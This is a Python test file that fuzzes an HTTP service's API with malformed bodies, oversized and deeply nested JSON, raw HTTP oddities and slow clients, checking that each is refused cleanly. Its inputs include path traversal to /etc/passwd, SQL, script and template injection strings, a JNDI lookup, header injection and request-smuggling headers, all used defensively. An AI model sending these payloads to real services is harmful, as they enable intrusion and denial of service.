"""Requests that nobody should send: whatever comes is answered in the service's own words, and never with a 5xx."""

from __future__ import annotations

import json
import threading

import pytest

from simmerge_ray.service.http.gate import Limits
from tests.fuzz.live import TOKENS, Answer, LiveService
from tests.fuzz.test_api import OPERATIONS

LIMIT = Limits().body_bytes
PAIR = '"left": "LEFT", "right": "RIGHT"'  # of known checkpoints
BODIES = {
    "empty": b"",
    "not json": b"left=a&right=b",
    "cut off": b'{"left": "a", ',
    "not utf-8": b'{"left": "\xff\xfe", "right": "b"}',
    "utf-16": '{"left": "a", "right": "b"}'.encode("utf-16"),
    "nul bytes": b"\x00" * 100,
    "NaN": f'{{{PAIR}, "ttl_seconds": NaN}}'.encode(),
    "Infinity": f'{{{PAIR}, "ttl_seconds": Infinity}}'.encode(),
    "-Infinity": f'{{{PAIR}, "ttl_seconds": -Infinity}}'.encode(),
    "1e999": f'{{{PAIR}, "ttl_seconds": 1e999}}'.encode(),
    "huge int": f'{{{PAIR}, "ttl_seconds": {"9" * 5000}}}'.encode(),
    "deep list": b"[" * 60_000,
    "deep and closed": b"[" * 30_000 + b"]" * 30_000,
    "deep object": b'{"a":' * 10_000 + b"1" + b"}" * 10_000,
    "deep in a field": b'{"left": ' + b"[" * 30_000 + b"]" * 30_000 + b', "right": "b"}',
    "a list": b'["a", "b"]',
    "a string": b'"a"',
    "null": b"null",
    "a number": b"1",
    "wrong types": b'{"left": 1, "right": {"a": []}, "explore": "perhaps"}',
    "unknown field": f'{{{PAIR}, "path": "/etc/passwd"}}'.encode(),
    "both forms": f'{{{PAIR}, "checkpoints": ["LEFT", "RIGHT"]}}'.encode(),
    "neither form": b"{}",
    "one side": b'{"left": "LEFT"}',
    "the same twice": b'{"left": "LEFT", "right": "LEFT"}',
    "lone surrogate": b'{"left": "\\ud800", "right": "b"}',
    "ttl of 0": f'{{{PAIR}, "ttl_seconds": 0}}'.encode(),
    "one checkpoint": b'{"checkpoints": ["LEFT"]}',
    "one checkpoint twice": b'{"checkpoints": ["LEFT", "LEFT"]}',
    "101 checkpoints": json.dumps({"checkpoints": [f"c{i}" for i in range(101)]}).encode(),
    "no ways": b'{"checkpoints": ["LEFT", "RIGHT"], "ways": "many"}',
    "too many ways": b'{"checkpoints": ["LEFT", "RIGHT"], "ways": "3-1000000000"}',
}
REWARDS = {
    "NaN": b'{"utility": NaN}',
    "Infinity": b'{"utility": Infinity}',
    "1e999": b'{"utility": 1e999}',
    "above 1": b'{"utility": 1.0000000000000002}',
    "below 0": b'{"utility": -5e-324}',
    "huge int": b'{"utility": ' + b"9" * 5000 + b"}",
    "text": b'{"utility": "0.5"}',
    "true": b'{"utility": true}',
    "null": b'{"utility": null}',
    "missing": b"{}",
    "a list": b'{"utility": [0.5]}',
}
NAMES = {
    "parent directory": "../../etc/passwd",
    "encoded parents": "..%2f..%2fetc%2fpasswd",
    "absolute path": "/etc/passwd",
    "nul": "a\x00b",
    "SQL": "'; DROP TABLE events; --",
    "SQL or": "x' OR '1'='1",
    "script": "<script>alert(1)</script>",
    "template": "{{7*7}}",
    "lookup": "${jndi:ldap://x/a}",
    "right to left": "\u202egnp.exe",
    "empty": "",
    "space": " ",
    "newline": "a\nSet-Cookie: x=1",
    "long": "x" * 201,
    "very long": "x" * 20_000,
}


def known(body: bytes, service: LiveService) -> bytes:
    left, right = service.checkpoints[:2]
    return body.replace(b"LEFT", left.encode()).replace(b"RIGHT", right.encode())


@pytest.mark.parametrize("route", ["/v1/decisions", "/v1/rank", "/v1/plans"])
@pytest.mark.parametrize("name", BODIES)
def test_a_body_that_is_no_request_is_refused_in_one_sentence(service, name, route):
    answer = service.send("POST", route, known(BODIES[name], service))
    if answer.status == 200 and route == "/v1/plans":
        assert name in ("neither form", "one checkpoint twice")  # all of the catalogue, or too few for any plan
        return
    assert answer.refused(400, 404, 413, 422)
    assert len(answer.body) < 2000  # what was sent is not sent back


@pytest.mark.parametrize("name", REWARDS)
def test_a_reward_that_is_no_utility_is_refused_and_not_logged(service, name):
    decision = service.decide()
    assert service.send("POST", f"/v1/decisions/{decision}/reward", REWARDS[name]).refused(400, 422)
    record = service.send("GET", f"/v1/decisions/{decision}").json
    assert (record["status"], record["utility"]) == ("open", None)


def test_of_two_equal_keys_the_last_counts_as_in_every_json_reader(service):
    decision = service.decide()
    answer = service.send("POST", f"/v1/decisions/{decision}/reward", b'{"utility": 7, "utility": 0.5}')
    assert answer.status == 201 and answer.json["utility"] == 0.5


@pytest.mark.parametrize("name", NAMES)
def test_names_are_names_and_nothing_else(service, name):
    text = NAMES[name]
    left, right = service.checkpoints[:2]
    for body in (
        {"left": text, "right": right},
        {"left": left, "right": right, "task": text},
        {"checkpoints": [left, right, text]},
    ):
        answer = service.send("POST", "/v1/decisions", body)
        assert answer.refused(404, 422)
        assert b"root:" not in answer.body and b"49" not in answer.body  # no file was read, no template filled in
        assert "<script" not in answer.body.decode() or answer.headers["content-type"] == "application/json"
    assert service.send("POST", "/v1/arms", {"arm": text}).refused(404, 422)
    assert service.send("POST", "/v1/arms", {"arm": "slerp", "sibling": text}).refused(404, 422)


@pytest.mark.parametrize("name", NAMES)
def test_ids_in_the_path_find_decisions_and_nothing_else(service, name):
    from urllib.parse import quote

    encoded = quote(NAMES[name], safe="")
    for path in (f"/v1/decisions/{encoded}", f"/v1/signals?signal={encoded}"):
        answer = service.send("GET", path)
        if name == "empty" and answer.status == 307:  # a slash too many leads to the list
            assert answer.headers["location"].endswith("/v1/decisions")
        else:
            assert answer.refused(404, 414, 422), (path, answer)
        assert b"root:" not in answer.body
    raw = service.raw(
        b"GET /v1/decisions/../../../../etc/passwd HTTP/1.1\r\nHost: x\r\nConnection: close\r\nAuthorization: Bearer "
        + TOKENS["admin"].encode()
        + b"\r\n\r\n"
    )
    assert raw.startswith(b"HTTP/1.1 404") and b"root:" not in raw


def test_a_reason_may_say_anything_and_comes_back_as_text(service):
    decision = service.decide()
    text = "infeasible: '; DROP TABLE events; -- <script>alert(1)</script> \u202e"
    assert service.send("POST", f"/v1/decisions/{decision}/close", {"reason": text}).status == 201
    answer = service.send("GET", f"/v1/decisions/{decision}")
    assert answer.json["closed_reason"] == text and answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["content-type"] == "application/json" and "default-src" in answer.headers[CSP]
    service.works()


CSP = "content-security-policy"


@pytest.mark.parametrize("key", ["", " ", "x" * 201, "x" * 60_000, "a\tb", "\xe4", "a b"])
def test_a_key_that_no_column_holds_is_refused(service, key):
    left, right = service.checkpoints[:2]
    body = {"left": left, "right": right}
    answer = service.send("POST", "/v1/decisions", body, headers={"Idempotency-Key": key})
    if len(key) > 10_000:  # the server's own limit of a head
        assert answer.status in (400, 422, 431)
    else:
        assert answer.refused(422)


def test_a_body_beyond_the_limit_is_refused_whether_its_length_is_said_or_not(service):
    large = b'{"left": "' + b"x" * LIMIT + b'"}'
    assert service.send("POST", "/v1/decisions", large).refused(413)
    head = (
        "POST /v1/decisions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nConnection: close\r\n"
        f"Authorization: Bearer {TOKENS['admin']}\r\n"
    ).encode()
    chunk = b"4000\r\n" + b"x" * 0x4000 + b"\r\n"
    assert service.raw(head + b"Transfer-Encoding: chunked\r\n\r\n" + chunk * 5).startswith(b"HTTP/1.1 413")
    assert service.raw(head + b"Content-Length: 99999999999999999999\r\n\r\n").split(b" ")[1] in (b"400", b"413")
    exact = b'{"left": "' + b"x" * (LIMIT - 12) + b'"}'
    assert len(exact) == LIMIT and service.send("POST", "/v1/decisions", exact).refused(422)


def test_slow_bodies_and_heads_are_given_up_and_others_are_answered(service):
    """Three hundred clients that never finish; meanwhile decisions are made."""
    head = (
        f"POST /v1/decisions HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\nAuthorization: Bearer {TOKENS['admin']}\r\n"
    ).encode()
    answers: list[bytes] = []
    threads = [
        threading.Thread(target=lambda data=data: answers.append(service.raw(data)))
        for data in (head + b"\r\n{", head) * 150
    ]
    for thread in threads:
        thread.start()
    for _ in range(5):
        service.works()
    for thread in threads:
        thread.join()
    assert len(answers) == 300 and all(answer.startswith(b"HTTP/1.1 408") for answer in answers)


@pytest.mark.parametrize(
    "data",
    [
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
        b"GET\r\n\r\n",
        b"GET / HTTP/9.9\r\n\r\n",
        b"\x00\xff" * 500 + b"\r\n\r\n",
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        b"POST /v1/rank HTTP/1.1\r\nHost: x\r\nContent-Length: -5\r\n\r\n",
        b"POST /v1/rank HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nabcdef",
        b"POST /v1/rank HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nZZZ\r\n",
        b"GET /" + b"a" * 200_000 + b" HTTP/1.1\r\nHost: x\r\n\r\n",
        b"GET / HTTP/1.1\r\n" + b"X: y\r\n" * 200_000,
    ],
    ids=["tls", "no target", "version", "bytes", "http2", "negative", "two lengths", "chunks", "long", "many headers"],
)
def test_what_is_no_http_is_refused_and_closed(service, data):
    answer = service.raw(data)
    assert not answer or answer.split(b" ")[1][:1] == b"4", answer[:200]
    service.works()


@pytest.mark.parametrize("kind", ["text/plain", "application/xml", "multipart/form-data; boundary=x", "", "a" * 1000])
def test_a_body_of_another_type_is_no_request(service, kind):
    left, right = service.checkpoints[:2]
    body = json.dumps({"left": left, "right": right}).encode()
    assert service.send("POST", "/v1/decisions", body, headers={"Content-Type": kind}).refused(415, 422)


@pytest.mark.parametrize("method", ["PUT", "PATCH", "DELETE", "TRACE", "OPTIONS", "CONNECT", "FOO", "GET", "POST"])
def test_a_method_that_a_route_does_not_have_is_405_and_says_which_it_has(service, method):
    for known_method, path in OPERATIONS:
        others = {one for one, other in OPERATIONS if other == path}
        if method in others:
            continue
        answer = service.send(method, path.replace("{decision_id}", "d1"), headers={"Content-Length": "0"})
        assert answer.status in (400, 405), (known_method, path, answer)
        if answer.status == 405:
            assert set(answer.headers["allow"].replace(" ", "").split(",")) & others


@pytest.mark.parametrize("token", [None, "wrong", "", "Bearer", "a" * 10_000, "\xff\xfe", TOKENS["admin"][:-1]])
def test_without_a_known_token_nothing_but_health_is_answered(service, token):
    for method, path in [*OPERATIONS, ("GET", "/openapi.json"), ("GET", "/docs"), ("GET", "/nowhere")]:
        headers = {} if token is None else {"Authorization": f"Bearer {token}"}
        answer = service.send(method, path.replace("{decision_id}", "d1"), b"{}", token=None, headers=headers)
        if path in ("/healthz", "/readyz"):
            assert answer.status == 200
        else:
            # Who tries many tokens has to wait; that answer tells as little.
            assert answer.refused(401) if token is None else answer.refused(401, 429)
            assert "token" in answer.json["detail"]


NEEDED = {
    ("POST", "/v1/decisions"): "decide",
    ("POST", "/v1/rank"): "decide",
    ("POST", "/v1/plans"): "decide",
    ("POST", "/v1/decisions/{decision_id}/reward"): "reward",
    ("POST", "/v1/decisions/{decision_id}/close"): "reward",
    ("POST", "/v1/decisions/{decision_id}/void"): "admin",
    ("POST", "/v1/arms"): "admin",
    ("POST", "/v1/discount"): "admin",
}


@pytest.mark.parametrize("role", TOKENS)
def test_a_role_may_do_what_it_is_for_and_look_at_all(service, role):
    for method, path in OPERATIONS:
        answer: Answer = service.send(method, path.replace("{decision_id}", "d1"), b"{}", token=TOKENS[role])
        needed = NEEDED.get((method, path), role)
        assert (answer.status == 403) == (role not in (needed, "admin")), (method, path, answer)


def test_it_works_after_all_that(service):
    service.works()
